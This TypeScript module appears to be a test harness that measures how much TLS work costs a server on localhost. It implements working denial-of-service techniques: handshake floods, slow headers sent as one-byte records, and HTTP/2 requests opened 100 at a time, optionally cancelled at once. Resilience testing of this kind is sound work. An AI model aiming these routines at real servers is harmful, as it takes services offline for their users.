/** What costs a server time over TLS, whose keys and records no turn sees. */

import { Buffer } from "node:buffer";
import { once } from "node:events";
import { connect as connectHttp2 } from "node:http2";
import { createConnection } from "node:net";
import { connect as connectTls, type TLSSocket } from "node:tls";

/** Where an attacker connects to, and from. */
interface Way {
  readonly port: number;
  readonly address: string;
}

/** Requests on one connection at once: as many as most servers allow. */
export const STREAMS = 100;

/** Records of one byte before the system is asked whether there is room for more. */
const RECORDS = 256;

/** Opens a connection of TLS; whose key it meets matters to no attacker. */
export function connect({ port, address }: Way, protocol: "h2" | "http/1.1"): TLSSocket {
  const socket = createConnection({ host: "127.0.0.1", port, localAddress: address });
  const conn = connectTls({ socket, rejectUnauthorized: false, ALPNProtocols: [protocol] });
  socket.on("error", () => conn.destroy());
  conn.on("error", () => {});
  return conn;
}

/** Whole handshakes, without a request. */
export async function tls(way: Way): Promise<void> {
  const conn = connect(way, "h2");
  conn.once("secureConnect", () => conn.destroy());
  await once(conn, "close");
}

/** A head whose bytes have a record each. */
export async function records(way: Way): Promise<void> {
  const conn = connect(way, "http/1.1");
  await once(conn, "secureConnect");
  const closed = once(conn, "close");
  // Nothing can be written to who has ended the connection.
  conn.once("end", () => conn.destroy());
  conn.resume();
  conn.write("GET /v4/key HTTP/1.1\r\nHost: a\r\nX: ");
  const byte = Buffer.of(0x78);
  while (!conn.destroyed) {
    for (let count = 0; count < RECORDS; count++) conn.write(byte);
    if (conn.writableNeedDrain) await Promise.race([once(conn, "drain"), closed]);
    await new Promise((resolve) => setTimeout(resolve, 0));
  }
}

/** Requests over HTTP/2, as many at once as there may be; `reset`: each given up at once. */
export function streams({ reset }: { readonly reset: boolean }): (way: Way) => Promise<void> {
  return async (way) => {
    const conn = connect(way, "h2");
    await once(conn, "secureConnect");
    const session = connectHttp2("https://127.0.0.1", { createConnection: () => conn });
    const closed = once(session, "close");
    session.on("error", () => {});
    while (!session.closed && !session.destroyed) {
      const answered = Array.from({ length: STREAMS }, () => {
        const request = session.request({ ":path": "/v4/key" });
        request.on("error", () => {});
        if (reset) request.close(8);
        request.resume();
        request.end();
        return once(request, "close");
      });
      await Promise.race([Promise.allSettled(answered), closed]);
    }
  };
}
